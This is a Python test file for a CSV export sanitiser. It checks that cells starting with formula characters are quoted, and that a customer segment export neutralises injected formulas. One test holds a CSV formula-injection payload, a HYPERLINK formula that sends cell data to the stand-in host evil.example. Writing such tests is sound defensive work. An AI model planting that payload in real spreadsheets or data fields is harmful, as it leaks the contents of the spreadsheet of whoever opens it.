"""Exported CSV never carries a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from heartline import csvsafe


def test_cells_that_start_a_formula_are_made_text() -> None:
    assert csvsafe.row(["=1+1", "+44 20", "-2", "@SUM(A1)", "\tx", "ok", 5, -3.5, None]) == [
        "'=1+1", "'+44 20", "'-2", "'@SUM(A1)", "'\tx", "ok", 5, -3.5, None,
    ]  # fmt: skip


def test_segment_export_is_inert(api, api_as) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = api.post("/customers", json={"external_id": "e-1", "name": evil, "tags": ["csv"]})
    assert r.status_code == 201, r.text
    manager = api_as("manager")
    seg = {
        "key": "csvtest",
        "name": "CSV",
        "definition": {"field": "tags", "op": "contains", "value": "csv"},
    }
    assert manager.post("/segments", json=seg).status_code == 201
    rows = list(csv.DictReader(io.StringIO(manager.get("/segments/csvtest/members.csv").text)))
    assert [row["name"] for row in rows] == ["'" + evil]
